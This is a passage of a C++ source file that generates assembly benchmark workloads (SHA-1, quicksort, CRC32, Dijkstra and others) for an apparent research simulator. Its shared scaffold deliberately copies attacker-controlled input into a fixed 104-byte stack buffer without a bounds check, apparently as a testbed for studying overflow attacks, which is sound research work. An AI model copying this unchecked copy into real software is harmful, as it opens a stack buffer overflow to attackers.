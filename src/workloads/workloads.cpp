#include "workloads/workloads.hpp"

#include <algorithm>

#include "casm/assembler.hpp"
#include "casm/runtime.hpp"
#include "support/error.hpp"

namespace crs::workloads {

namespace {

std::string num(std::uint64_t v) { return std::to_string(v); }

// Shared LCG (all workloads): s' = (s * 1103515245 + 12345) & 0x7fffffff.
// Emits: clobbers the named state register and one scratch register.
std::string lcg_step(const std::string& state, const std::string& scratch) {
  return "    muli " + state + ", " + state + ", 1103515245\n" +
         "    addi " + state + ", " + state + ", 12345\n" +
         "    movi " + scratch + ", 0x7fffffff\n" +
         "    and " + state + ", " + state + ", " + scratch + "\n";
}

constexpr std::uint64_t kLcgMul = 1103515245;
constexpr std::uint64_t kLcgAdd = 12345;
constexpr std::uint64_t kLcgMask = 0x7fffffff;

std::uint64_t lcg_next(std::uint64_t s) {
  return (s * kLcgMul + kLcgAdd) & kLcgMask;
}

// ---------------------------------------------------------------------------
// The common host scaffold: paper Algorithm 1.
// ---------------------------------------------------------------------------

std::string scaffold(bool canary) {
  std::string s;
  s += "; host scaffold: vulnerable input path (Algorithm 1)\n";
  s += "_start:\n";
  s += "    movi r6, 2\n";
  s += "    cmpltu r6, r1, r6\n";  // argc < 2?
  s += "    bnez r6, no_input\n";
  s += "    load r4, [r2+8]\n";    // argv[1] pointer
  s += "    load r5, [r3+8]\n";    // argv[1] length (attacker-controlled)
  s += "    call read_input\n";
  s += "no_input:\n";
  s += "    call work\n";
  s += "    movi r1, 0\n";
  s += "    call exit_\n";
  s += "\n";
  if (canary) {
    // char buffer[104]; canary word between buffer and saved return.
    s += "read_input:\n";
    s += "    addi sp, sp, -112\n";
    s += "    movi r6, __canary\n";
    s += "    load r6, [r6]\n";
    s += "    store [sp+104], r6\n";
    s += "read_input_body:\n";
    s += "    mov r1, sp\n";
    s += "    mov r2, r4\n";
    s += "    mov r3, r5\n";
    s += "    call memcpy\n";       // the overflow happens here
    s += "    load r4, [sp+104]\n";
    s += "    call canary_check\n"; // aborts on corruption
    s += "    addi sp, sp, 112\n";
    s += "    ret\n";
  } else {
    s += "read_input:\n";
    s += "    addi sp, sp, -104\n"; // char buffer[104]
    s += "read_input_body:\n";
    s += "    mov r1, sp\n";
    s += "    mov r2, r4\n";
    s += "    mov r3, r5\n";
    s += "    call memcpy\n";       // no bounds check: Algorithm 1 line 3
    s += "    addi sp, sp, 104\n";
    s += "    ret\n";
  }
  s += "\n";
  return s;
}

// ---------------------------------------------------------------------------
// Workload bodies. Each defines `work:` plus its own data, and stores a
// checksum at `result` (defined centrally). Bodies may use r4..r14 freely.
// ---------------------------------------------------------------------------

// basicmath ("Math"): Newton integer square roots + polynomial evaluation.
// Division-heavy with a data-dependent inner loop.
std::string body_basicmath(std::uint64_t scale) {
  std::string s;
  s += "work:\n";
  s += "    movi r4, 12345\n";  // lcg
  s += "    movi r5, 0\n";      // checksum
  s += "    movi r13, " + num(scale) + "\n";
  s += "bm_loop:\n";
  s += lcg_step("r4", "r6");
  s += "    mov r6, r4\n";      // x = v
  s += "    shri r7, r6, 1\n";
  s += "    addi r7, r7, 1\n";  // y = v/2 + 1
  s += "bm_isqrt:\n";
  s += "    cmplt r8, r7, r6\n";
  s += "    beqz r8, bm_isqrt_done\n";
  s += "    mov r6, r7\n";
  s += "    divu r9, r4, r6\n";
  s += "    add r7, r6, r9\n";
  s += "    shri r7, r7, 1\n";
  s += "    jmp bm_isqrt\n";
  s += "bm_isqrt_done:\n";
  s += "    add r5, r5, r6\n";
  s += "    muli r9, r4, 3\n";
  s += "    addi r9, r9, 7\n";
  s += "    mul r9, r9, r4\n";
  s += "    addi r9, r9, 11\n";
  s += "    xor r5, r5, r9\n";
  s += "    addi r13, r13, -1\n";
  s += "    bnez r13, bm_loop\n";
  s += "    movi r6, result\n";
  s += "    store [r6], r5\n";
  s += "    ret\n";
  return s;
}

// bitcount: MiBench's "nifty parallel count" (branchless SWAR popcount) —
// pure predictable ALU, the highest-IPC workload (paper Table I).
std::string body_bitcount(std::uint64_t scale) {
  std::string s;
  s += "work:\n";
  s += "    movi r4, 98765\n";
  s += "    movi r5, 0\n";  // total bit count
  s += "    movi r13, " + num(scale) + "\n";
  s += "bc_loop:\n";
  s += lcg_step("r4", "r6");
  s += "    mov r6, r4\n";
  // v = v - ((v >> 1) & 0x55555555)
  s += "    shri r7, r6, 1\n";
  s += "    andi r7, r7, 0x55555555\n";
  s += "    sub r6, r6, r7\n";
  // v = (v & 0x33333333) + ((v >> 2) & 0x33333333)
  s += "    movi r8, 0x33333333\n";
  s += "    and r7, r6, r8\n";
  s += "    shri r6, r6, 2\n";
  s += "    and r6, r6, r8\n";
  s += "    add r6, r6, r7\n";
  // v = (v + (v >> 4)) & 0x0f0f0f0f
  s += "    shri r7, r6, 4\n";
  s += "    add r6, r6, r7\n";
  s += "    andi r6, r6, 0x0f0f0f0f\n";
  // count = (v * 0x01010101) >> 24, low byte
  s += "    muli r6, r6, 0x01010101\n";
  s += "    shri r6, r6, 24\n";
  s += "    andi r6, r6, 0xff\n";
  s += "    add r5, r5, r6\n";
  s += "    addi r13, r13, -1\n";
  s += "    bnez r13, bc_loop\n";
  s += "    movi r6, result\n";
  s += "    store [r6], r5\n";
  s += "    ret\n";
  return s;
}

// sha: genuine SHA-1 compression over `scale` blocks of LCG-generated
// words. Heavy on the W[80] message schedule: loads/stores dominate.
std::string body_sha(std::uint64_t scale) {
  std::string s;
  s += "work:\n";
  // r9 = 0xffffffff mask, kept live across the whole routine.
  s += "    movi r9, 1\n";
  s += "    shli r9, r9, 32\n";
  s += "    addi r9, r9, -1\n";
  s += "    movi r14, " + num(scale) + "\n";  // blocks
  s += "sha_block:\n";
  // W[0..15] = LCG words.
  s += "    movi r13, 0\n";
  s += "sha_fill:\n";
  s += "    movi r10, sha_lcg\n";
  s += "    load r11, [r10]\n";
  s += "    muli r11, r11, 1103515245\n";
  s += "    addi r11, r11, 12345\n";
  s += "    and r11, r11, r9\n";  // full 32-bit state here
  s += "    store [r10], r11\n";
  s += "    movi r10, w_arr\n";
  s += "    shli r12, r13, 3\n";
  s += "    add r10, r10, r12\n";
  s += "    store [r10], r11\n";
  s += "    addi r13, r13, 1\n";
  s += "    movi r12, 16\n";
  s += "    cmplt r12, r13, r12\n";
  s += "    bnez r12, sha_fill\n";
  // W[16..79] = rotl1(W[t-3] ^ W[t-8] ^ W[t-14] ^ W[t-16]).
  s += "sha_extend:\n";
  s += "    movi r10, w_arr\n";
  s += "    shli r12, r13, 3\n";
  s += "    add r10, r10, r12\n";
  s += "    load r11, [r10-24]\n";
  s += "    load r12, [r10-64]\n";
  s += "    xor r11, r11, r12\n";
  s += "    load r12, [r10-112]\n";
  s += "    xor r11, r11, r12\n";
  s += "    load r12, [r10-128]\n";
  s += "    xor r11, r11, r12\n";
  s += "    shli r12, r11, 1\n";
  s += "    shri r11, r11, 31\n";
  s += "    or r11, r11, r12\n";
  s += "    and r11, r11, r9\n";
  s += "    store [r10], r11\n";
  s += "    addi r13, r13, 1\n";
  s += "    movi r12, 80\n";
  s += "    cmplt r12, r13, r12\n";
  s += "    bnez r12, sha_extend\n";
  // Load state into a..e = r4..r8.
  s += "    movi r10, sha_h\n";
  s += "    load r4, [r10]\n";
  s += "    load r5, [r10+8]\n";
  s += "    load r6, [r10+16]\n";
  s += "    load r7, [r10+24]\n";
  s += "    load r8, [r10+32]\n";
  s += "    movi r13, 0\n";
  s += "sha_round:\n";
  s += "    movi r12, 20\n";
  s += "    cmplt r12, r13, r12\n";
  s += "    beqz r12, sha_f2\n";
  s += "    and r10, r5, r6\n";   // f = (b & c) | (~b & d)
  s += "    xor r11, r5, r9\n";
  s += "    and r11, r11, r7\n";
  s += "    or r10, r10, r11\n";
  s += "    movi r11, 0x5A827999\n";
  s += "    jmp sha_cont\n";
  s += "sha_f2:\n";
  s += "    movi r12, 40\n";
  s += "    cmplt r12, r13, r12\n";
  s += "    beqz r12, sha_f3\n";
  s += "    xor r10, r5, r6\n";   // f = b ^ c ^ d
  s += "    xor r10, r10, r7\n";
  s += "    movi r11, 0x6ED9EBA1\n";
  s += "    jmp sha_cont\n";
  s += "sha_f3:\n";
  s += "    movi r12, 60\n";
  s += "    cmplt r12, r13, r12\n";
  s += "    beqz r12, sha_f4\n";
  s += "    and r10, r5, r6\n";   // f = majority(b, c, d)
  s += "    and r12, r5, r7\n";
  s += "    or r10, r10, r12\n";
  s += "    and r12, r6, r7\n";
  s += "    or r10, r10, r12\n";
  s += "    movi r11, 0x8F1BBCDC\n";
  s += "    and r11, r11, r9\n";  // strip movi sign extension
  s += "    jmp sha_cont\n";
  s += "sha_f4:\n";
  s += "    xor r10, r5, r6\n";
  s += "    xor r10, r10, r7\n";
  s += "    movi r11, 0xCA62C1D6\n";
  s += "    and r11, r11, r9\n";
  s += "sha_cont:\n";
  s += "    add r10, r10, r11\n";  // f + k
  s += "    add r10, r10, r8\n";   // + e
  s += "    shli r11, r4, 5\n";    // + rotl(a, 5)
  s += "    shri r12, r4, 27\n";
  s += "    or r11, r11, r12\n";
  s += "    and r11, r11, r9\n";
  s += "    add r10, r10, r11\n";
  s += "    movi r11, w_arr\n";    // + W[t]
  s += "    shli r12, r13, 3\n";
  s += "    add r11, r11, r12\n";
  s += "    load r12, [r11]\n";
  s += "    add r10, r10, r12\n";
  s += "    and r10, r10, r9\n";
  s += "    mov r8, r7\n";         // e = d
  s += "    mov r7, r6\n";         // d = c
  s += "    shli r11, r5, 30\n";   // c = rotl(b, 30)
  s += "    shri r12, r5, 2\n";
  s += "    or r11, r11, r12\n";
  s += "    and r6, r11, r9\n";
  s += "    mov r5, r4\n";         // b = a
  s += "    mov r4, r10\n";        // a = temp
  s += "    addi r13, r13, 1\n";
  s += "    movi r12, 80\n";
  s += "    cmplt r12, r13, r12\n";
  s += "    bnez r12, sha_round\n";
  // h[i] = (h[i] + reg) & mask
  s += "    movi r10, sha_h\n";
  const char* regs[] = {"r4", "r5", "r6", "r7", "r8"};
  for (int i = 0; i < 5; ++i) {
    s += "    load r11, [r10+" + num(8 * i) + "]\n";
    s += std::string("    add r11, r11, ") + regs[i] + "\n";
    s += "    and r11, r11, r9\n";
    s += "    store [r10+" + num(8 * i) + "], r11\n";
  }
  s += "    addi r14, r14, -1\n";
  s += "    bnez r14, sha_block\n";
  // result = h0 ^ h1 ^ h2 ^ h3 ^ h4
  s += "    movi r10, sha_h\n";
  s += "    load r4, [r10]\n";
  s += "    load r5, [r10+8]\n";
  s += "    xor r4, r4, r5\n";
  s += "    load r5, [r10+16]\n";
  s += "    xor r4, r4, r5\n";
  s += "    load r5, [r10+24]\n";
  s += "    xor r4, r4, r5\n";
  s += "    load r5, [r10+32]\n";
  s += "    xor r4, r4, r5\n";
  s += "    movi r5, result\n";
  s += "    store [r5], r4\n";
  s += "    ret\n";
  s += ".data\n";
  s += "sha_lcg: .word 7919\n";
  s += "sha_h: .word 0x67452301, 0xEFCDAB89, 0x98BADCFE, 0x10325476, 0xC3D2E1F0\n";
  s += "w_arr: .space 640\n";
  s += ".text\n";
  return s;
}

// qsort: recursive quicksort (Lomuto) over `scale` LCG values.
// Pointer-heavy with data-dependent branches — classic sort profile.
std::string body_qsort(std::uint64_t scale) {
  CRS_ENSURE(scale >= 2 && scale <= 4096, "qsort scale out of range");
  std::string s;
  s += "work:\n";
  s += "    movi r4, 424243\n";
  s += "    movi r13, 0\n";
  s += "qs_fill:\n";
  s += lcg_step("r4", "r5");
  s += "    movi r6, qs_arr\n";
  s += "    shli r7, r13, 3\n";
  s += "    add r6, r6, r7\n";
  s += "    store [r6], r4\n";
  s += "    addi r13, r13, 1\n";
  s += "    movi r7, " + num(scale) + "\n";
  s += "    cmplt r7, r13, r7\n";
  s += "    bnez r7, qs_fill\n";
  s += "    movi r1, 0\n";
  s += "    movi r2, " + num(scale - 1) + "\n";
  s += "    call qsort_rec\n";
  // checksum = sum arr[i] * (i + 1)
  s += "    movi r5, 0\n";
  s += "    movi r13, 0\n";
  s += "qs_sum:\n";
  s += "    movi r6, qs_arr\n";
  s += "    shli r7, r13, 3\n";
  s += "    add r6, r6, r7\n";
  s += "    load r7, [r6]\n";
  s += "    addi r8, r13, 1\n";
  s += "    mul r7, r7, r8\n";
  s += "    add r5, r5, r7\n";
  s += "    addi r13, r13, 1\n";
  s += "    movi r7, " + num(scale) + "\n";
  s += "    cmplt r7, r13, r7\n";
  s += "    bnez r7, qs_sum\n";
  s += "    movi r6, result\n";
  s += "    store [r6], r5\n";
  s += "    ret\n";
  s += "\n";
  s += "; qsort_rec(r1 = lo, r2 = hi), Lomuto partition\n";
  s += "qsort_rec:\n";
  s += "    cmplt r4, r1, r2\n";
  s += "    beqz r4, qs_ret\n";
  s += "    movi r6, qs_arr\n";
  s += "    shli r7, r2, 3\n";
  s += "    add r7, r6, r7\n";
  s += "    load r8, [r7]\n";     // pivot = arr[hi]
  s += "    addi r9, r1, -1\n";   // i = lo - 1
  s += "    mov r10, r1\n";       // j = lo
  s += "qs_part:\n";
  s += "    shli r7, r10, 3\n";
  s += "    add r7, r6, r7\n";
  s += "    load r11, [r7]\n";    // arr[j]
  s += "    cmplt r12, r8, r11\n";
  s += "    bnez r12, qs_noswap\n";
  s += "    addi r9, r9, 1\n";
  s += "    shli r12, r9, 3\n";
  s += "    add r12, r6, r12\n";
  s += "    load r13, [r12]\n";
  s += "    store [r12], r11\n";
  s += "    store [r7], r13\n";
  s += "qs_noswap:\n";
  s += "    addi r10, r10, 1\n";
  s += "    cmplt r12, r10, r2\n";
  s += "    bnez r12, qs_part\n";
  s += "    addi r9, r9, 1\n";    // final pivot swap: arr[i] <-> arr[hi]
  s += "    shli r12, r9, 3\n";
  s += "    add r12, r6, r12\n";
  s += "    load r13, [r12]\n";
  s += "    shli r7, r2, 3\n";
  s += "    add r7, r6, r7\n";
  s += "    load r11, [r7]\n";
  s += "    store [r12], r11\n";
  s += "    store [r7], r13\n";
  s += "    push r1\n";           // recurse left (lo, p-1)
  s += "    push r2\n";
  s += "    push r9\n";
  s += "    addi r2, r9, -1\n";
  s += "    call qsort_rec\n";
  s += "    pop r9\n";
  s += "    pop r2\n";
  s += "    pop r1\n";
  s += "    push r1\n";           // recurse right (p+1, hi)
  s += "    push r2\n";
  s += "    addi r1, r9, 1\n";
  s += "    call qsort_rec\n";
  s += "    pop r2\n";
  s += "    pop r1\n";
  s += "qs_ret:\n";
  s += "    ret\n";
  s += ".data\n";
  s += ".align 64\n";
  s += "qs_arr: .space " + num(scale * 8) + "\n";
  s += ".text\n";
  return s;
}

// crc32: table-driven CRC over an LCG byte stream.
std::string body_crc32(std::uint64_t scale) {
  std::string s;
  s += "work:\n";
  s += "    movi r9, 1\n";  // r9 = 0xffffffff, live throughout
  s += "    shli r9, r9, 32\n";
  s += "    addi r9, r9, -1\n";
  // Build the table.
  s += "    movi r13, 0\n";
  s += "crc_tbl:\n";
  s += "    mov r4, r13\n";
  s += "    movi r12, 8\n";
  s += "crc_tbl_k:\n";
  s += "    andi r5, r4, 1\n";
  s += "    shri r4, r4, 1\n";
  s += "    beqz r5, crc_tbl_nx\n";
  s += "    movi r6, 0xEDB88320\n";
  s += "    and r6, r6, r9\n";
  s += "    xor r4, r4, r6\n";
  s += "crc_tbl_nx:\n";
  s += "    addi r12, r12, -1\n";
  s += "    bnez r12, crc_tbl_k\n";
  s += "    movi r6, crc_table\n";
  s += "    shli r7, r13, 3\n";
  s += "    add r6, r6, r7\n";
  s += "    store [r6], r4\n";
  s += "    addi r13, r13, 1\n";
  s += "    movi r7, 256\n";
  s += "    cmplt r7, r13, r7\n";
  s += "    bnez r7, crc_tbl\n";
  // Stream.
  s += "    mov r8, r9\n";       // crc = 0xffffffff
  s += "    movi r10, 5381\n";   // lcg
  s += "    movi r13, " + num(scale) + "\n";
  s += "crc_loop:\n";
  s += lcg_step("r10", "r11");
  s += "    shri r11, r10, 16\n";
  s += "    andi r11, r11, 0xff\n";  // byte
  s += "    xor r11, r8, r11\n";
  s += "    andi r11, r11, 0xff\n";
  s += "    movi r12, crc_table\n";
  s += "    shli r11, r11, 3\n";
  s += "    add r12, r12, r11\n";
  s += "    load r11, [r12]\n";
  s += "    shri r8, r8, 8\n";
  s += "    xor r8, r8, r11\n";
  s += "    addi r13, r13, -1\n";
  s += "    bnez r13, crc_loop\n";
  s += "    xor r8, r8, r9\n";
  s += "    movi r6, result\n";
  s += "    store [r6], r8\n";
  s += "    ret\n";
  s += ".data\n";
  s += ".align 64\n";
  s += "crc_table: .space 2048\n";
  s += ".text\n";
  return s;
}

/// Escapes a corpus for embedding in an `.ascii "..."` directive.
std::string escape_for_ascii(const std::string& text) {
  std::string out;
  for (char c : text) {
    switch (c) {
      case '\n': out += "\\n"; break;
      case '\t': out += "\\t"; break;
      case '"': out += "\\\""; break;
      case '\\': out += "\\\\"; break;
      default: out += c;
    }
  }
  return out;
}

// The static text corpus used by stringsearch and wordcount.
std::string text_corpus() {
  std::string text;
  const char* sentences[] = {
      "the quick brown fox jumps over the lazy dog. ",
      "pack my box with five dozen liquor jugs. ",
      "how vexingly quick daft zebras jump! ",
      "sphinx of black quartz judge my vow. ",
      "the five boxing wizards jump quickly. ",
  };
  for (int i = 0; i < 12; ++i) {
    text += sentences[i % 5];
    if (i % 3 == 2) text += "\n";
  }
  return text;
}

// stringsearch: naive pattern scan over a static corpus.
std::string body_stringsearch(std::uint64_t scale) {
  const std::string corpus = text_corpus();
  std::string s;
  s += "work:\n";
  s += "    movi r14, " + num(scale) + "\n";  // passes
  s += "    movi r4, 0\n";                    // match count
  s += "ss_pass:\n";
  s += "    movi r13, 0\n";                   // pattern index 0..3
  s += "ss_pattern:\n";
  // r5 = pattern address = patterns + 8*idx (table of pointers)
  s += "    movi r5, ss_pats\n";
  s += "    shli r6, r13, 3\n";
  s += "    add r5, r5, r6\n";
  s += "    load r5, [r5]\n";
  s += "    movi r6, 0\n";                    // text position
  s += "ss_pos:\n";
  s += "    movi r7, 0\n";                    // pattern position
  s += "ss_cmp:\n";
  s += "    add r8, r5, r7\n";
  s += "    loadb r9, [r8]\n";                // pattern[k]
  s += "    beqz r9, ss_hit\n";               // end of pattern: match
  s += "    movi r8, ss_text\n";
  s += "    add r8, r8, r6\n";
  s += "    add r8, r8, r7\n";
  s += "    loadb r10, [r8]\n";               // text[pos + k]
  s += "    cmpeq r11, r9, r10\n";
  s += "    beqz r11, ss_miss\n";
  s += "    addi r7, r7, 1\n";
  s += "    jmp ss_cmp\n";
  s += "ss_hit:\n";
  s += "    addi r4, r4, 1\n";
  s += "ss_miss:\n";
  s += "    addi r6, r6, 1\n";
  s += "    movi r8, " + num(corpus.size() - 8) + "\n";
  s += "    cmplt r8, r6, r8\n";
  s += "    bnez r8, ss_pos\n";
  s += "    addi r13, r13, 1\n";
  s += "    movi r8, 4\n";
  s += "    cmplt r8, r13, r8\n";
  s += "    bnez r8, ss_pattern\n";
  s += "    addi r14, r14, -1\n";
  s += "    bnez r14, ss_pass\n";
  s += "    movi r6, result\n";
  s += "    store [r6], r4\n";
  s += "    ret\n";
  s += ".data\n";
  s += "ss_text: .ascii \"" + escape_for_ascii(corpus) + "\"\n";
  s += ".byte 0, 0, 0, 0, 0, 0, 0, 0\n";  // guard tail
  s += "ss_p0: .asciz \"quick\"\n";
  s += "ss_p1: .asciz \"jump\"\n";
  s += "ss_p2: .asciz \"wizard\"\n";
  s += "ss_p3: .asciz \"zebra\"\n";
  s += ".align 8\n";
  s += "ss_pats: .word ss_p0, ss_p1, ss_p2, ss_p3\n";
  s += ".text\n";
  return s;
}

// dijkstra: O(V^2) single-source shortest paths over an LCG-weighted
// complete digraph, repeated `scale` times with fresh weights.
std::string body_dijkstra(std::uint64_t scale) {
  constexpr int kV = 20;
  std::string s;
  s += "work:\n";
  s += "    movi r4, 31337\n";  // lcg, lives in r4 across passes
  s += "    movi r14, " + num(scale) + "\n";
  s += "dj_pass:\n";
  // Fill adjacency with weights 1..100.
  s += "    movi r13, 0\n";
  s += "dj_fill:\n";
  s += lcg_step("r4", "r5");
  s += "    movi r5, 100\n";
  s += "    remu r5, r4, r5\n";
  s += "    addi r5, r5, 1\n";
  s += "    movi r6, dj_adj\n";
  s += "    shli r7, r13, 3\n";
  s += "    add r6, r6, r7\n";
  s += "    store [r6], r5\n";
  s += "    addi r13, r13, 1\n";
  s += "    movi r7, " + num(kV * kV) + "\n";
  s += "    cmplt r7, r13, r7\n";
  s += "    bnez r7, dj_fill\n";
  // dist[] = INF except dist[0] = 0; visited[] = 0.
  s += "    movi r13, 0\n";
  s += "dj_init:\n";
  s += "    movi r6, dj_dist\n";
  s += "    shli r7, r13, 3\n";
  s += "    add r6, r6, r7\n";
  s += "    movi r5, 1000000\n";
  s += "    store [r6], r5\n";
  s += "    movi r6, dj_vis\n";
  s += "    add r6, r6, r7\n";
  s += "    movi r5, 0\n";
  s += "    store [r6], r5\n";
  s += "    addi r13, r13, 1\n";
  s += "    movi r7, " + num(kV) + "\n";
  s += "    cmplt r7, r13, r7\n";
  s += "    bnez r7, dj_init\n";
  s += "    movi r6, dj_dist\n";
  s += "    movi r5, 0\n";
  s += "    store [r6], r5\n";
  // Main loop: V iterations of select-min + relax.
  s += "    movi r12, 0\n";  // iteration count
  s += "dj_iter:\n";
  // select unvisited u with min dist -> r10 (index), r11 (dist)
  s += "    movi r10, 0\n";
  s += "    movi r11, 2000000\n";
  s += "    movi r13, 0\n";
  s += "dj_sel:\n";
  s += "    movi r6, dj_vis\n";
  s += "    shli r7, r13, 3\n";
  s += "    add r6, r6, r7\n";
  s += "    load r5, [r6]\n";
  s += "    bnez r5, dj_sel_next\n";
  s += "    movi r6, dj_dist\n";
  s += "    add r6, r6, r7\n";
  s += "    load r5, [r6]\n";
  s += "    cmplt r8, r5, r11\n";
  s += "    beqz r8, dj_sel_next\n";
  s += "    mov r11, r5\n";
  s += "    mov r10, r13\n";
  s += "dj_sel_next:\n";
  s += "    addi r13, r13, 1\n";
  s += "    movi r7, " + num(kV) + "\n";
  s += "    cmplt r7, r13, r7\n";
  s += "    bnez r7, dj_sel\n";
  // mark u visited
  s += "    movi r6, dj_vis\n";
  s += "    shli r7, r10, 3\n";
  s += "    add r6, r6, r7\n";
  s += "    movi r5, 1\n";
  s += "    store [r6], r5\n";
  // relax every j: nd = dist[u] + adj[u][j]
  s += "    movi r13, 0\n";
  s += "dj_relax:\n";
  s += "    movi r6, dj_adj\n";
  s += "    muli r7, r10, " + num(kV * 8) + "\n";
  s += "    add r6, r6, r7\n";
  s += "    shli r7, r13, 3\n";
  s += "    add r6, r6, r7\n";
  s += "    load r5, [r6]\n";     // w(u, j)
  s += "    add r5, r5, r11\n";   // dist[u] + w
  s += "    movi r6, dj_dist\n";
  s += "    add r6, r6, r7\n";
  s += "    load r8, [r6]\n";
  s += "    cmplt r9, r5, r8\n";
  s += "    beqz r9, dj_relax_next\n";
  s += "    store [r6], r5\n";
  s += "dj_relax_next:\n";
  s += "    addi r13, r13, 1\n";
  s += "    movi r7, " + num(kV) + "\n";
  s += "    cmplt r7, r13, r7\n";
  s += "    bnez r7, dj_relax\n";
  s += "    addi r12, r12, 1\n";
  s += "    movi r7, " + num(kV) + "\n";
  s += "    cmplt r7, r12, r7\n";
  s += "    bnez r7, dj_iter\n";
  // checksum += sum of dist[]
  s += "    movi r13, 0\n";
  s += "dj_sum:\n";
  s += "    movi r6, dj_dist\n";
  s += "    shli r7, r13, 3\n";
  s += "    add r6, r6, r7\n";
  s += "    load r5, [r6]\n";
  s += "    movi r6, result\n";
  s += "    load r8, [r6]\n";
  s += "    add r8, r8, r5\n";
  s += "    store [r6], r8\n";
  s += "    addi r13, r13, 1\n";
  s += "    movi r7, " + num(kV) + "\n";
  s += "    cmplt r7, r13, r7\n";
  s += "    bnez r7, dj_sum\n";
  s += "    addi r14, r14, -1\n";
  s += "    bnez r14, dj_pass\n";
  s += "    ret\n";
  s += ".data\n";
  s += ".align 64\n";
  s += "dj_adj: .space " + num(kV * kV * 8) + "\n";
  s += "dj_dist: .space " + num(kV * 8) + "\n";
  s += "dj_vis: .space " + num(kV * 8) + "\n";
  s += ".text\n";
  return s;
}

// susan-like image smoothing: 3x3 mean filter over a byte image.
// Strided memory with short dependent chains.
std::string body_susan(std::uint64_t scale) {
  constexpr int kW = 48, kH = 32;
  std::string s;
  s += "work:\n";
  // Fill the image once.
  s += "    movi r4, 8675309\n";
  s += "    movi r13, 0\n";
  s += "su_fill:\n";
  s += lcg_step("r4", "r5");
  s += "    movi r6, su_img\n";
  s += "    add r6, r6, r13\n";
  s += "    storeb [r6], r4\n";
  s += "    addi r13, r13, 1\n";
  s += "    movi r7, " + num(kW * kH) + "\n";
  s += "    cmplt r7, r13, r7\n";
  s += "    bnez r7, su_fill\n";
  s += "    movi r14, " + num(scale) + "\n";
  s += "su_pass:\n";
  s += "    movi r12, 1\n";  // y
  s += "su_y:\n";
  s += "    movi r11, 1\n";  // x
  s += "su_x:\n";
  // base = img + y*W + x
  s += "    muli r6, r12, " + num(kW) + "\n";
  s += "    add r6, r6, r11\n";
  s += "    movi r7, su_img\n";
  s += "    add r6, r7, r6\n";
  s += "    movi r8, 0\n";  // sum of 9 neighbours
  for (int dy = -1; dy <= 1; ++dy) {
    for (int dx = -1; dx <= 1; ++dx) {
      const int off = dy * kW + dx;
      s += "    loadb r9, [r6" + std::string(off >= 0 ? "+" : "") +
           std::to_string(off) + "]\n";
      s += "    add r8, r8, r9\n";
    }
  }
  s += "    movi r9, 9\n";
  s += "    divu r8, r8, r9\n";
  s += "    storeb [r6], r8\n";
  s += "    addi r11, r11, 1\n";
  s += "    movi r7, " + num(kW - 1) + "\n";
  s += "    cmplt r7, r11, r7\n";
  s += "    bnez r7, su_x\n";
  s += "    addi r12, r12, 1\n";
  s += "    movi r7, " + num(kH - 1) + "\n";
  s += "    cmplt r7, r12, r7\n";
  s += "    bnez r7, su_y\n";
  s += "    addi r14, r14, -1\n";
  s += "    bnez r14, su_pass\n";
  // checksum = sum of all pixels
  s += "    movi r5, 0\n";
  s += "    movi r13, 0\n";
  s += "su_sum:\n";
  s += "    movi r6, su_img\n";
  s += "    add r6, r6, r13\n";
  s += "    loadb r7, [r6]\n";
  s += "    add r5, r5, r7\n";
  s += "    addi r13, r13, 1\n";
  s += "    movi r7, " + num(kW * kH) + "\n";
  s += "    cmplt r7, r13, r7\n";
  s += "    bnez r7, su_sum\n";
  s += "    movi r6, result\n";
  s += "    store [r6], r5\n";
  s += "    ret\n";
  s += ".data\n";
  s += ".align 64\n";
  s += "su_img: .space " + num(kW * kH + kW) + "\n";
  s += ".text\n";
  return s;
}

// pointer_chase ("browser"): dependent loads around a shuffled ring of
// cache-line-sized nodes — cache-miss dominated, benign.
std::string body_pointer_chase(std::uint64_t scale) {
  constexpr int kNodes = 8192;  // 512 KiB of nodes: misses L2 -> DRAM-bound
  std::string s;
  s += "work:\n";
  // node[i].next = &node[(i + 999) % kNodes]
  s += "    movi r13, 0\n";
  s += "pc_build:\n";
  s += "    addi r5, r13, 999\n";
  s += "    movi r6, " + num(kNodes) + "\n";
  s += "    remu r5, r5, r6\n";
  s += "    shli r5, r5, 6\n";
  s += "    movi r6, pc_nodes\n";
  s += "    add r5, r6, r5\n";      // &node[next]
  s += "    shli r7, r13, 6\n";
  s += "    add r7, r6, r7\n";      // &node[i]
  s += "    store [r7], r5\n";
  s += "    addi r13, r13, 1\n";
  s += "    movi r7, " + num(kNodes) + "\n";
  s += "    cmplt r7, r13, r7\n";
  s += "    bnez r7, pc_build\n";
  // chase
  s += "    movi r5, pc_nodes\n";
  s += "    movi r13, " + num(scale) + "\n";
  s += "pc_chase:\n";
  s += "    load r5, [r5]\n";
  s += "    addi r13, r13, -1\n";
  s += "    bnez r13, pc_chase\n";
  s += "    movi r6, result\n";
  s += "    store [r6], r5\n";
  s += "    ret\n";
  s += ".data\n";
  s += ".align 64\n";
  s += "pc_nodes: .space " + num(kNodes * 64) + "\n";
  s += ".text\n";
  return s;
}

// wordcount ("text editor"): byte scanning with compare-heavy control flow.
std::string body_wordcount(std::uint64_t scale) {
  const std::string corpus = text_corpus();
  std::string s;
  s += "work:\n";
  s += "    movi r14, " + num(scale) + "\n";
  s += "    movi r4, 0\n";  // words
  s += "    movi r5, 0\n";  // lines
  s += "wc_pass:\n";
  s += "    movi r6, 0\n";  // pos
  s += "    movi r7, 0\n";  // in_word
  s += "wc_loop:\n";
  s += "    movi r8, wc_text\n";
  s += "    add r8, r8, r6\n";
  s += "    loadb r9, [r8]\n";
  s += "    movi r10, 32\n";  // space
  s += "    cmpeq r10, r9, r10\n";
  s += "    movi r11, 10\n";  // newline
  s += "    cmpeq r11, r9, r11\n";
  s += "    add r5, r5, r11\n";
  s += "    or r10, r10, r11\n";  // is separator
  s += "    beqz r10, wc_inword\n";
  s += "    movi r7, 0\n";
  s += "    jmp wc_next\n";
  s += "wc_inword:\n";
  s += "    bnez r7, wc_next\n";
  s += "    movi r7, 1\n";
  s += "    addi r4, r4, 1\n";
  s += "wc_next:\n";
  s += "    addi r6, r6, 1\n";
  s += "    movi r8, " + num(corpus.size()) + "\n";
  s += "    cmplt r8, r6, r8\n";
  s += "    bnez r8, wc_loop\n";
  s += "    addi r14, r14, -1\n";
  s += "    bnez r14, wc_pass\n";
  s += "    muli r4, r4, 10000\n";
  s += "    add r4, r4, r5\n";
  s += "    movi r6, result\n";
  s += "    store [r6], r4\n";
  s += "    ret\n";
  s += ".data\n";
  s += "wc_text: .ascii \"" + escape_for_ascii(corpus) + "\"\n";
  s += ".byte 0\n";
  s += ".text\n";
  return s;
}

// stream ("media player"): strided sums over a 96 KiB array — L1-missing,
